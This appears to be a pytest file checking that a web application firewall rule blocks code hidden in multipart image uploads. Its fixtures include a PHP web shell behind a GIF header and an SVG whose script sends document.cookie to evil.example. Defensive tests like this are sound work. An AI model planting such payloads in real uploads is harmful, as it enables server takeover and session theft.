"""gatehouse's check of image uploads (waf/crs_defaults.c 90074,
tests/waf/default-exclusions.md "Native detections: code in image
uploads"): a multipart part sent as image/... whose content holds "<?php"
(a web shell behind a GIF header) or a "<script" tag (an SVG) is refused
before the origin sees it, with the pre-filter on; an ordinary SVG, and a
screenshot followed by an HTML page and PHP code sent as text files in the
same request, pass: the check stops at the next part."""

import pytest

import ghutil
from test_waf import MP_CT, mp_part, send, start

pytestmark = pytest.mark.skipif(ghutil.IMPL == "haproxy",
                                reason="waf sections are not translated to HAProxy")


def body(*parts):
    return b"".join(parts) + b"--XyZ--\r\n"


def part(name, filename, ctype, data):
    return mp_part(b'form-data; name="%s"; filename="%s"\r\nContent-Type: %s'
                   % (name, filename, ctype), data)


SHELL = part(b"avatar", b"cover.jpg", b"image/jpeg",
             b"GIF89a;<?php echo shell_exec($_GET['c']); ?>")
SVG_SCRIPT = part(b"image", b"pic.svg", b"image/svg+xml",
                  b'<svg xmlns="http://www.w3.org/2000/svg">\r\n\r\n'
                  b"<script>document.location='https://evil.example/?'+document.cookie</script></svg>")
SVG_OK = part(b"image", b"logo.svg", b"image/svg+xml",
              b'<?xml version="1.0"?>\r\n<svg xmlns="http://www.w3.org/2000/svg">'
              b'<style>.a{fill:#0a7}</style><path class="a" d="M1 1h2"/></svg>')
SCREENSHOT = part(b"shot", b"screen.png", b"image/png", b"\x89PNG\r\n\x1a\nIHDR")
HTML = part(b"page", b"repro.html", b"text/html",
            b'<html><body><script src="/app.js"></script></body></html>')
PHP_TEXT = part(b"code", b"snippet.txt", b"text/plain", b"<?php\r\nrequire 'boot.php';")


def test_code_in_an_image_part_is_refused(gatehouse, origin, port):
    g = start(gatehouse, port, origin, waf="prefilter on")
    assert send(port, "POST", "/upload", MP_CT, body(SVG_OK)).status == 200
    assert send(port, "POST", "/tickets/1/files", MP_CT,
                body(SCREENSHOT, HTML, PHP_TEXT)).status == 200
    heads = origin.stats.heads
    assert heads == 2
    assert send(port, "POST", "/api/albums/1/avatar", MP_CT, body(SHELL)).status == 403
    assert send(port, "POST", "/upload", MP_CT, body(SCREENSHOT, SVG_SCRIPT)).status == 403
    assert origin.stats.heads == heads
    lines = [l for l in g.stderr_text().splitlines() if "waf crs blocked" in l]
    assert len([l for l in lines if "90074 Code in an image upload" in l]) == 2, lines


def test_exclude_90074_lets_them_through(gatehouse, origin, port):
    start(gatehouse, port, origin, waf="exclude 90074")
    assert send(port, "POST", "/api/albums/1/avatar", MP_CT, body(SHELL)).status == 200
    assert send(port, "POST", "/upload", MP_CT, body(SCREENSHOT, SVG_SCRIPT)).status == 200
